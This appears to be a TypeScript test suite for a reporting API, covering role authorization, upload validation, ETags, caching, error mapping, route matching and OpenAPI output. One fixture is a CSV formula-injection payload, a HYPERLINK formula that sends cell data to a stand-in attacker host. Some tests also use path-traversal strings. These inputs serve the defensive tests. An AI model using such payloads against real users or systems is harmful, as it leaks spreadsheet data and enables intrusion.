/**
 * The API core (shared/api) with in-memory ports: authorization per route and role, the
 * requests it refuses, CSV safety, ETags, error mapping, and the OpenAPI document.
 */
import { describe, expect, it, vi } from 'vitest';
import { handleRequest } from '../../shared/api/app.ts';
import type { Caller } from '../../shared/api/http.ts';
import { as, memoryApi, registryDocument, request } from '../support/memory-api.ts';
import { openApiDocument } from '../../shared/api/openapi.ts';
import { matchRoute, routeKey, ROUTES, type Route } from '../../shared/api/routes.ts';
import { SummaryCache } from '../../shared/api/summary-cache.ts';
import type { Principal } from '../../shared/auth/principals.ts';
import { ROLES } from '../../shared/auth/roles.ts';
import type { ApiDeps } from '../../shared/ports/api.ts';
import { summaryKey } from '../../shared/publish/publish.ts';

const UNITS = registryDocument('units.json') as { units: { code: string; name: string }[] };
const EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我领补贴")';

/** The single town of round 1 (config/units.json): today's routes mean that town. */
function world(options: { evilUnit?: boolean } = {}) {
  const api = memoryApi({
    ...UNITS,
    units: UNITS.units.map((u) => (options.evilUnit && u.code === 'V02' ? { ...u, name: EVIL } : u)),
  });
  const published = (summary: typeof SUMMARY) => api.publish(summary);
  return { ...api, published };
}

const V03: Caller = as({ role: 'village', unit: 'EC/V03' });
const DISTRICT: Caller = as({ role: 'district' });
const TOWN: Caller = as({ role: 'town', town: 'EC' });

const SUMMARY = {
  org: 'EC',
  level: 'town' as const,
  kind: 'monthly' as const,
  period: '2025-03',
  revision: 2,
  publishedAt: '2025-04-06T00:00:00Z',
  version: 3,
  changes: [],
  totals: { petitions_received: 5 },
  derived: {},
  completeness: { expected: 9, submitted: 2, onTime: 2, late: 0, missing: [] },
  units: { V02: { petitions_received: 2 }, V03: { petitions_received: 3 } },
};

/** The cells of a CSV (quotes removed) that Excel would read as a formula. */
function formulaCells(csv: string): string[] {
  const cells = csv
    .replace(/^\uFEFF/, '')
    .split('\r\n')
    .flatMap((line) => line.match(/("([^"]|"")*"|[^,]*)(,|$)/g) ?? []);
  return cells
    .map((c) =>
      c
        .replace(/,$/, '')
        .replace(/^"(.*)"$/s, '$1')
        .replace(/""/g, '"'),
    )
    .filter((c) => /^[=+\-@\t\r]/.test(c));
}

describe('authorization per route', () => {
  const PARAMS: Record<string, string> = {
    period: '2025-03',
    month: '2025-03',
    year: '2025',
    unit: 'V03',
    org: 'EC',
    town: 'EC',
    uploadId: 'abcdefgh-0001',
    tokenId: '0123456789abcdef',
  };

  it.each(
    ROUTES.filter((r) => r.auth !== 'public').flatMap((route) =>
      ROLES.filter((role) => !route.roles.includes(role)).map((role) => [routeKey(route), role, route] as const),
    ),
  )('%s refuses role %s with 403 ROLE_FORBIDDEN and a Chinese message', async (_key, role, route: Route) => {
    // Prepare
    const { deps, intents } = world();
    const principal: Principal = role === 'village' ? { role, unit: 'EC/V03' } : role === 'town' ? { role, town: 'EC' } : { role };
    const pathParameters = Object.fromEntries([...route.path.matchAll(/\{(\w+)\}/g)].map((m) => [m[1]!, PARAMS[m[1]!]!]));

    // Act
    const response = await handleRequest(
      { route, pathParameters, query: {}, headers: {}, body: '{"format":"csv","period":"2025-03"}', caller: as(principal) },
      deps,
    );

    // Assess
    expect(response.status).toBe(403);
    expect(JSON.parse(response.body)).toMatchObject({ code: 'ROLE_FORBIDDEN', message: expect.stringMatching(/凭证不能/) });
    expect(intents).toEqual([]);
  });

  it('answers a refused token with 401, its code and message, and no token with TOKEN_MISSING', async () => {
    const { deps } = world();
    const refused = await handleRequest(request('me', { kind: 'refused', code: 'TOKEN_REVOKED', message: '凭证已被撤销' }), deps);
    expect(refused.status).toBe(401);
    expect(JSON.parse(refused.body)).toEqual({ code: 'TOKEN_REVOKED', message: '凭证已被撤销' });
    expect(refused.headers['www-authenticate']).toContain('Bearer');
    const anonymous = await handleRequest(request('me', { kind: 'anonymous' }), deps);
    expect(anonymous.status).toBe(401);
    expect(JSON.parse(anonymous.body)).toMatchObject({ code: 'TOKEN_MISSING' });
  });

  it('serves the public routes without a caller', async () => {
    const { deps } = world();
    expect((await handleRequest(request('page', { kind: 'anonymous' }), deps)).status).toBe(200);
    expect((await handleRequest(request('openapi', { kind: 'anonymous' }), deps)).status).toBe(200);
  });
});

describe('POST /v1/uploads', () => {
  const create = (deps: ApiDeps, caller: Caller, body: unknown) =>
    handleRequest(request('createUpload', caller, { body: typeof body === 'string' ? body : JSON.stringify(body) }), deps);

  it('signs a form for the village’s own unit and month, then records the intent', async () => {
    // Prepare
    const { deps, intents, presigned } = world();

    // Act
    const response = await create(deps, V03, { period: '2025-03', format: 'csv', size: 1200 });

    // Assess
    expect(response.status).toBe(201);
    const body = JSON.parse(response.body) as { uploadId: string; key: string; maxBytes: number };
    expect(body.key).toBe(`incoming/EC/V03/2025-03/${body.uploadId}.csv`);
    // The upload id is the logs' correlation id from here on (never a header or a field the caller sees twice).
    expect(response.correlationId).toBe(body.uploadId);
    expect(JSON.stringify(response.headers)).not.toContain('correlation');
    expect(presigned).toEqual([{ key: body.key, contentType: 'text/csv', maxBytes: 5 * 1024 * 1024, expiresInSeconds: 900 }]);
    expect(intents).toEqual([
      expect.objectContaining({
        uploadId: body.uploadId,
        uploader: { role: 'village', unit: 'EC/V03' },
        unit: 'EC/V03',
        period: '2025-03',
        ext: 'csv',
      }),
    ]);
  });

  it.each([
    [{ format: 'csv' }, 400, 'PERIOD_REQUIRED'],
    [{ period: '2025-05', format: 'csv' }, 400, 'PERIOD_IN_FUTURE'],
    [{ period: '2025-03', format: 'xls' }, 400, 'PARAMETER_INVALID'],
    [{ period: '2025-03', format: 'csv', key: 'incoming/V04/x.csv' }, 400, 'PARAMETER_INVALID'],
    [{ period: '2025-03', format: 'csv', unit: 'V04' }, 403, 'UNIT_FORBIDDEN'],
    [{ period: '2025-03', format: 'csv', size: 5 * 1024 * 1024 + 1 }, 413, 'FILE_TOO_LARGE'],
    ['{"period":"2025-03",', 400, 'BODY_INVALID'],
    [{ period: '2025-03', format: 'csv', pad: 'x'.repeat(20_000) }, 413, 'BODY_TOO_LARGE'],
  ] as const)('refuses a body (case %#) with %i %s and records nothing', async (body, status, code) => {
    const { deps, intents, presigned } = world();
    const response = await create(deps, V03, body);
    expect(response.status).toBe(status);
    expect(JSON.parse(response.body)).toMatchObject({ code, message: expect.any(String) });
    expect(intents).toEqual([]);
    expect(presigned).toEqual([]);
  });

  it('lets the town send a file of several units and months (unit ALL, period unknown)', async () => {
    const { deps, intents } = world();
    const response = await create(deps, TOWN, { format: 'json' });
    expect(response.status).toBe(201);
    expect(intents[0]).toMatchObject({ unit: 'EC/ALL', period: 'unknown', ext: 'json', uploader: { role: 'town', town: 'EC' } });
  });
});

describe('GET /v1/summaries', () => {
  it('neutralises a formula in a unit’s name in the CSV download (no cell starts with = + - @)', async () => {
    // Prepare
    const { deps, published } = world({ evilUnit: true });
    published(SUMMARY);

    // Act
    const response = await handleRequest(
      request('monthlySummary', DISTRICT, { pathParameters: { month: '2025-03' }, query: { format: 'csv' } }),
      deps,
    );

    // Assess
    expect(response.status).toBe(200);
    expect(response.headers['content-type']).toMatch(/^text\/csv/);
    expect(response.body.startsWith('\uFEFF')).toBe(true);
    expect(response.body).toContain('HYPERLINK');
    expect(formulaCells(response.body)).toEqual([]);
  });

  it('neutralises the same name where it stands alone in a cell: the wide template', async () => {
    const { deps } = world({ evilUnit: true });
    const response = await handleRequest(
      request('template', TOWN, { pathParameters: { period: '2025-03' }, query: { layout: 'wide' } }),
      deps,
    );
    expect(response.status).toBe(200);
    expect(response.body).toContain(`V02,"'${EVIL.replace(/"/g, '""')}",2025-03`);
    expect(formulaCells(response.body)).toEqual([]);
  });

  it('gives an ETag of the bytes, and 304 for If-None-Match with it (strong, weak or *)', async () => {
    const { deps, published } = world();
    published(SUMMARY);
    const get = (headers: Record<string, string> = {}) =>
      handleRequest(request('monthlySummary', TOWN, { pathParameters: { month: '2025-03' }, headers }), deps);
    const first = await get();
    const etag = first.headers['etag']!;
    expect(first.status).toBe(200);
    expect(JSON.parse(first.body)).toMatchObject({ revision: 2 });
    for (const tag of [etag, `W/${etag}`, '*', `"other", ${etag}`]) expect((await get({ 'if-none-match': tag })).status).toBe(304);
    expect((await get({ 'if-none-match': '"other"' })).status).toBe(200);
    published({ ...SUMMARY, revision: 3 });
    const changed = await get({ 'if-none-match': etag });
    expect(changed.status).toBe(200);
    expect(changed.headers['etag']).not.toBe(etag);
  });

  it('serves a revision from the container’s cache, and a new revision as soon as it is published', async () => {
    // Prepare
    const { deps, published, objects } = world();
    const cached: ApiDeps = { ...deps, summaryCache: new SummaryCache() };
    const reads = vi.spyOn(cached.store, 'get');
    published(SUMMARY);
    const get = () => handleRequest(request('monthlySummary', TOWN, { pathParameters: { month: '2025-03' } }), cached);

    // Act
    const first = await get();
    const second = await get();
    objects.delete(summaryKey('EC', 'monthly', '2025-03', 2));
    const third = await get();
    published({ ...SUMMARY, revision: 3 });
    const corrected = await get();

    // Assess
    expect([first, second, third].map((r) => JSON.parse(r.body).revision)).toEqual([2, 2, 2]);
    expect(JSON.parse(corrected.body).revision).toBe(3);
    expect(reads).toHaveBeenCalledTimes(2);
  });

  it('says 404 SUMMARY_NOT_PUBLISHED for a month not published yet', async () => {
    const { deps } = world();
    const response = await handleRequest(request('annualSummary', DISTRICT, { pathParameters: { year: '2024' } }), deps);
    expect(response.status).toBe(404);
    expect(JSON.parse(response.body)).toMatchObject({ code: 'SUMMARY_NOT_PUBLISHED', message: expect.stringContaining('2024年') });
  });
});

describe('errors', () => {
  it('maps an unexpected failure to 500 INTERNAL without details, and logs them', async () => {
    const { deps } = world();
    const log = vi.fn();
    const broken: ApiDeps = { ...deps, registry: async () => Promise.reject(new Error('s3 exploded at /var/task/x.js:1')) };
    const response = await handleRequest(request('units', TOWN), broken, log);
    expect(response.status).toBe(500);
    expect(JSON.parse(response.body)).toEqual({ code: 'INTERNAL', message: expect.stringMatching(/服务器内部错误/) });
    expect(response.body).not.toContain('exploded');
    expect(log).toHaveBeenCalledWith(expect.objectContaining({ message: expect.stringContaining('exploded') }));
  });

  it('maps a DynamoDB throttling error to 429 with Retry-After', async () => {
    const { deps } = world();
    const throttled: ApiDeps = {
      ...deps,
      ledger: {
        ...deps.ledger,
        currentOfMonth: async () =>
          Promise.reject(Object.assign(new Error('slow down'), { name: 'ProvisionedThroughputExceededException' })),
      },
    };
    const response = await handleRequest(request('completeness', TOWN, { pathParameters: { month: '2025-03' } }), throttled);
    expect(response.status).toBe(429);
    expect(response.headers['retry-after']).toBe('2');
    expect(JSON.parse(response.body)).toMatchObject({ code: 'TOO_MANY_REQUESTS' });
  });
});

describe('routes', () => {
  it('matches paths as API Gateway does, decoding parameters, and nothing with an encoded slash', () => {
    expect(matchRoute('GET', '/v1/units/V03/submissions/2025-03')).toMatchObject({
      route: { name: 'submissions' },
      pathParameters: { unit: 'V03', month: '2025-03' },
    });
    expect(matchRoute('GET', '/v1/orgs/EC/units/V03/submissions/2025-03')).toMatchObject({
      route: { name: 'orgSubmissions' },
      pathParameters: { town: 'EC', unit: 'V03', month: '2025-03' },
    });
    expect(matchRoute('GET', '/v1/uploads/..%2F..%2Fx')?.pathParameters['uploadId']).toBe('../../x');
    expect(matchRoute('GET', '/v1/uploads/a/b')).toBeUndefined();
    expect(matchRoute('PUT', '/v1/uploads')).toBeUndefined();
  });

  it('refuses a decoded ../ in a path parameter with 400', async () => {
    const { deps } = world();
    const response = await handleRequest(request('getUpload', V03, { pathParameters: { uploadId: '../../x' } }), deps);
    expect(response.status).toBe(400);
  });
});

describe('OpenAPI document', () => {
  it('describes every route with its method, parameters and the request schema from zod', () => {
    const doc = openApiDocument(ROUTES) as {
      openapi: string;
      paths: Record<string, Record<string, { operationId: string; parameters?: { name: string }[] }>>;
      components: { schemas: Record<string, { properties?: Record<string, unknown>; additionalProperties?: unknown }> };
    };
    expect(doc.openapi).toBe('3.1.0');
    for (const route of ROUTES) {
      const op = doc.paths[route.path]?.[route.method.toLowerCase()];
      expect(op?.operationId, route.name).toBe(route.name);
      for (const [, name] of route.path.matchAll(/\{(\w+)\}/g)) expect(op?.parameters?.map((p) => p.name)).toContain(name);
    }
    const create = doc.components.schemas['CreateUploadRequest']!;
    expect(Object.keys(create.properties!)).toEqual(['period', 'unit', 'town', 'format', 'size']);
    expect(create.additionalProperties).toBe(false);
    expect(JSON.parse(JSON.stringify(doc))).toEqual(doc);
  });
});
